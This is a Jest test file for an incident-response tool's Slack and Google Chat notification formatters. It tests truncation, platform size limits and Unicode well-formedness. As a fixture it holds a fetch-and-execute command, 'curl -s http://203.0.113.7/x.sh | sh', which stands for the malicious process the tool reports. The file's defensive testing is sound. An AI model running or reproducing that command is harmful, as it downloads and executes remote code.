// Slack and Google Chat messages that cannot be crowded out: long lines are cut
// to fit (never splitting an escape, a tag, a code span or a surrogate pair)
// instead of dropped; the child command and the outcome always have room; and
// the messages stay inside the platforms' limits whatever the summary holds.
import { describe, expect, it } from '@jest/globals';
import { formatChat, type ChatMessage } from '../src/core/summary/chat/format.ts';
import type { ActionOutcome } from '../src/core/plan/outcome.ts';
import { ACTION_ORDER, validatePolicy } from '../src/core/policy/policy.ts';
import { cutChatLine, cutSlackLine, fitLines, wireBytes } from '../src/core/summary/sink-text.ts';
import { formatSlack, type SlackMessage } from '../src/core/summary/slack/format.ts';
import type { Summary } from '../src/core/summary/document.ts';
import { notificationV1 } from './support/fixtures.ts';
import { summaryFor } from './support/summaries.ts';

const CHILD_COMMAND = 'curl -s http://203.0.113.7/x.sh | sh';

const slackTexts = (m: SlackMessage) =>
  m.blocks.flatMap((b) => (b.type === 'section' ? [b.text?.text ?? '', ...(b.fields ?? []).map((f) => f.text)] : b.type === 'context' ? b.elements.map((e) => e.text) : []));
const chatTexts = (m: ChatMessage) =>
  m.cardsV2[0]!.card.sections.flatMap((s) =>
    s.widgets.flatMap((w) => ('textParagraph' in w ? [w.textParagraph.text] : 'decoratedText' in w ? [w.decoratedText.text] : [])),
  );

/** Every string in a value (keys too) is well formed: no lone surrogate, which Slack, Chat and Pub/Sub refuse. */
function expectWellFormed(value: unknown): void {
  const strings: string[] = [];
  JSON.stringify(value, (k, v) => {
    strings.push(k);
    if (typeof v === 'string') strings.push(v);
    return v;
  });
  const bad = strings.filter((s) => !(s as string & { isWellFormed(): boolean }).isWellFormed());
  expect(bad).toEqual([]);
}

function expectSlackLimits(m: SlackMessage): void {
  expect(m.blocks.length).toBeLessThanOrEqual(50);
  for (const block of m.blocks) {
    if (block.type === 'header') expect(block.text.text.length).toBeLessThanOrEqual(150);
    if (block.type === 'section' && block.text) {
      expect(block.text.text.length).toBeLessThanOrEqual(3000);
      expect((block.text.text.match(/`/g) ?? []).length % 2).toBe(0);
    }
    if (block.type === 'section' && block.fields) for (const f of block.fields) expect(f.text.length).toBeLessThanOrEqual(2000);
    if (block.type === 'context') for (const e of block.elements) expect(e.text.length).toBeLessThanOrEqual(2000);
  }
  expectWellFormed(m);
}

describe('the child command cannot be pushed out', () => {
  // A parent with 11 args of 255 characters: with one shared block, the child's `curl … | sh` was dropped.
  function crowded(): Summary {
    const n = structuredClone(notificationV1());
    n.finding.processes[1].args = ['node', ...Array.from({ length: 11 }, (_, i) => `${i}`.padEnd(255, 'x'))];
    return summaryFor(n);
  }

  it('Slack: the child has its own block, and the parent is cut, not dropped', () => {
    const message = formatSlack(crowded());
    const texts = slackTexts(message);
    const child = texts.find((t) => t.startsWith('*Child*'));
    expect(child).toContain(`\`${CHILD_COMMAND}\``);
    const parent = texts.find((t) => t.startsWith('*Parent*'));
    expect(parent).toContain('`0xxxxx');
    expect(parent).toMatch(/…` _\(truncated\)_$|…`$|…$/m);
    expectSlackLimits(message);
  });

  it('Google Chat: the child has its own paragraph', () => {
    const message = formatChat(crowded());
    const paragraphs = chatTexts(message);
    expect(paragraphs.find((t) => t.startsWith('<b>Child</b>'))).toContain('curl -s http[:]//203.0.113.7/x.sh | sh');
    expect(paragraphs.find((t) => t.startsWith('<b>Parent</b>'))).toContain('0xxxxx');
    expect(wireBytes(JSON.stringify(message))).toBeLessThan(32_000);
  });

  it('the child command is there even when the child itself has many long args', () => {
    const n = structuredClone(notificationV1());
    n.finding.processes[0].args = ['/bin/sh', '-c', CHILD_COMMAND, ...Array.from({ length: 30 }, () => '&'.repeat(250))];
    const s = summaryFor(n);
    expect(slackTexts(formatSlack(s)).find((t) => t.startsWith('*Child*'))).toContain(`\`${CHILD_COMMAND}\``);
    expect(chatTexts(formatChat(s)).find((t) => t.startsWith('<b>Child</b>'))).toContain('curl -s http[:]//203.0.113.7/x.sh | sh');
  });
});

describe('the outcome cannot be pushed out', () => {
  it('every action keeps its type, status and the start of its reason, whatever the reasons and evidence hold', () => {
    const heavy = '&'.repeat(500); // escaped five-fold in both formats
    const outcomes: ActionOutcome[] = ACTION_ORDER.filter((t) => t !== 'evict-pod').map((type, i) => ({
      type,
      status: i % 2 ? 'failed' : 'done',
      reason: `reason-${type} ${heavy}`,
    }));
    const n = structuredClone(notificationV1());
    n.finding.description = heavy;
    const s = summaryFor(n, {
      outcomes,
      warnings: Array.from({ length: 20 }, () => heavy),
      evidence: {
        queries: Array.from({ length: 20 }, (_, i) => ({ kind: `k${i}`, filter: 'f', url: null, count: i, excerpts: Array(5).fill(heavy), incomplete: heavy })),
        links: {},
        bundle: null,
        notes: Array(20).fill(heavy),
      },
    });
    const slack = formatSlack(s);
    const decision = slackTexts(slack).find((t) => t.startsWith('*Decision* `'))!;
    const chat = chatTexts(formatChat(s));
    for (const o of outcomes) {
      expect(decision).toContain(`• \`${o.type}\` *${o.status}* \`reason-${o.type} &amp;`);
      expect(chat.some((t) => t.includes(`<b>${o.type}</b> ${o.status}: reason-${o.type} &amp;`))).toBe(true);
    }
    expect(slack.blocks[0]).toMatchObject({ type: 'header', text: { text: expect.stringContaining('partial') } });
    expectSlackLimits(slack);
  });

  it('evidence: every query keeps its line and count, excerpts give way, a link too long to fit is left out', () => {
    const url = `https://console.cloud.google.com/logs/query;query=${'a'.repeat(3900)}`;
    const s = summaryFor(notificationV1(), {
      policy: validatePolicy({ dryRun: false, rules: [{ name: 'contain', actions: ['label-pod'] }], evidence: { excerptLines: 50 } }),
      evidence: {
        queries: Array.from({ length: 20 }, (_, i) => ({ kind: `kind-${i}`, filter: 'f', url, count: 100 + i, excerpts: Array(50).fill('x'.repeat(300)), incomplete: null })),
        links: {},
        bundle: 'gs://bucket/incidents/x/',
        notes: [],
      },
    });
    const evidence = slackTexts(formatSlack(s)).find((t) => t.startsWith('*Evidence*'))!;
    for (let i = 0; i < 20; i++) expect(evidence).toContain(`• \`kind-${i}\` ${100 + i} entries`);
    expect(evidence).toContain('gs://bucket/incidents/x/');
    expect(evidence).toMatch(/_… \d+ more lines_$/);
    const chatEvidence = formatChat(s).cardsV2[0]!.card.sections.find((x) => x.header === 'Evidence')!;
    const text = 'textParagraph' in chatEvidence.widgets[0]! ? chatEvidence.widgets[0].textParagraph.text : '';
    for (let i = 0; i < 20; i++) expect(text).toContain(`<b>kind-${i}</b> ${100 + i} entries`);
  });
});

describe('within the platform limits, whatever the summary holds', () => {
  // Every field at its bound, in the characters that cost most there: for Slack's character limits
  // & < > (escaped five- and four-fold), for Chat's byte limit CJK (3 bytes each) and astral ones.
  const SLACK_COSTLY = '&<>"😀';
  const CHAT_COSTLY = '中文字符中文字符😀';
  function maximal(unit: string): Summary {
    const costly = (n: number) => unit.repeat(n);
    const n = structuredClone(notificationV1());
    // Many long args (the child), and a few that together just fit a paragraph (the parent).
    n.finding.processes[0].args = Array.from({ length: 256 }, () => costly(1000));
    n.finding.processes[1].args = Array.from({ length: 8 }, () => costly(1000));
    n.finding.processes[0].envVariables = Array.from({ length: 64 }, (_, i) => ({ name: `V${i}${costly(50)}`, val: costly(1000) }));
    n.finding.processes[0].binary.path = costly(1000);
    n.finding.kubernetes.pods[0].name = costly(100);
    n.finding.containers[0].uri = costly(1000);
    const policy = validatePolicy({
      dryRun: false,
      rules: [{ name: 'contain', actions: ['label-pod', 'isolate-pod', 'capture-process-list', 'cordon-node', 'delete-pod'] }],
      summary: { maxArgs: 256, maxArgLength: 4096, revealEnvValues: Array.from({ length: 64 }, (_, i) => `V${i}${costly(50)}`) },
      evidence: { excerptLines: 50 },
    });
    const built = summaryFor(n, {
      policy,
      outcomes: ACTION_ORDER.filter((t) => t !== 'evict-pod').map((type) => ({ type, status: 'skipped', reason: `budget: ${costly(1000)}` })),
      warnings: Array(20).fill(costly(1000)),
      evidence: {
        queries: Array.from({ length: 20 }, (_, i) => ({
          kind: costly(100),
          filter: 'f',
          url: i === 19 ? `https://console.cloud.google.com/logs/${'%F0%9F%98%80'.repeat(330)}` : null,
          count: 1,
          excerpts: Array(50).fill(costly(1000)),
          incomplete: costly(1000),
        })),
        links: {},
        bundle: costly(1000),
        notes: Array(20).fill(costly(1000)),
      },
    });
    // Owners as many and as long as the summary may hold, each one mentioned.
    built.owners = Array.from({ length: 40 }, (_, i) => ({ who: `${i}${costly(200)}`, source: 'workload-label', key: costly(100) }));
    built.ownerNotes = Array(20).fill(costly(1000));
    return built;
  }
  const MENTION_ALL = Object.fromEntries(Array.from({ length: 40 }, (_, i) => [`${i}${SLACK_COSTLY.repeat(200)}`, `S${String(i).padStart(8, '0')}`]));

  it('Slack: every block within its limit, every code span closed, no lone surrogate', () => {
    expectSlackLimits(formatSlack(maximal(SLACK_COSTLY), { mentions: MENTION_ALL }));
    expect(JSON.stringify(formatSlack(maximal(SLACK_COSTLY), { mentions: MENTION_ALL }))).toContain('<!subteam^S00000000>');
  });

  it('Google Chat: the whole message under 32 000 bytes, no lone surrogate', () => {
    const message = formatChat(maximal(CHAT_COSTLY));
    expect(wireBytes(JSON.stringify(message))).toBeLessThan(32_000);
    expect(Buffer.byteLength(JSON.stringify(message))).toBeLessThan(32_000);
    expectWellFormed(message);
  });

  it('a lone surrogate from the finding never reaches a message', () => {
    const n = structuredClone(notificationV1());
    n.finding.processes[0].args = ['sh', 'a\ud800b', '\udc00', `${'x'.repeat(255)}😀😀`];
    const s = summaryFor(n);
    expectWellFormed(s);
    expectWellFormed(formatSlack(s));
    expectWellFormed(formatChat(s));
  });
});

describe('cutting one rendered line', () => {
  it('Slack: never inside an escape, a pair or a link; what it cut open it closes', () => {
    const line = '*Child* `a&amp;b😀c` <https://console.cloud.google.com/x|Open> `tail`';
    for (let max = 0; max <= line.length; max++) {
      const cut = cutSlackLine(line, max);
      expect(cut.length).toBeLessThanOrEqual(max);
      expect((cut.match(/`/g) ?? []).length % 2).toBe(0);
      expect(cut).not.toMatch(/&(a|am|amp)?…/);
      expect(cut).not.toMatch(/<https[^>]*$/);
      expectWellFormed(cut);
    }
    expect(cutSlackLine(line, 14)).toBe('*Child* `a…`'); // &amp; does not fit whole, so it is left out whole
    expect(cutSlackLine('*Warnings are long*', 10)).toBe('*Warning…*');
  });

  it('Google Chat: never inside a tag, an entity or a pair; open tags are closed', () => {
    const line = '<b>kind</b> 3 entries <a href="https://console.cloud.google.com/x">Logs Explorer</a> &amp;&quot;😀';
    for (let max = 0; max <= wireBytes(line); max++) {
      const cut = cutChatLine(line, max);
      expect(wireBytes(cut)).toBeLessThanOrEqual(max);
      expect(cut).not.toMatch(/<[^>]*$/);
      expect(cut).not.toMatch(/&[a-z]*…/);
      expect((cut.match(/<b>/g) ?? []).length).toBe((cut.match(/<\/b>/g) ?? []).length);
      expect((cut.match(/<a /g) ?? []).length).toBe((cut.match(/<\/a>/g) ?? []).length);
      expectWellFormed(cut);
    }
    expect(cutChatLine('<b>abcdefgh</b>', 12)).toBe('<b>ab…</b>');
  });

  it('fitLines cuts long lines to a fair share instead of dropping them', () => {
    const fit = { max: 120, separator: '\n', measure: (t: string) => t.length, cut: cutSlackLine, more: (n: number) => `… ${n} more` };
    const out = fitLines(['short', 'L'.repeat(200), 'M'.repeat(200)], fit);
    expect(out.length).toBeLessThanOrEqual(120);
    const [a, b, c] = out.split('\n');
    expect(a).toBe('short');
    expect(b).toMatch(/^L{40,}…$/);
    expect(c).toMatch(/^M{40,}…$/);
    // Too many lines for a useful share each: the lowest priority give way, and the marker says how many.
    const many = fitLines([{ text: 'keep', priority: 1 }, ...Array(50).fill('x'.repeat(60))], fit);
    expect(many.length).toBeLessThanOrEqual(120);
    expect(many.startsWith('keep\n')).toBe(true);
    expect(many).toMatch(/\nx{40,}…\n/);
    expect(many).toMatch(/\n… 4\d more$/);
  });
});
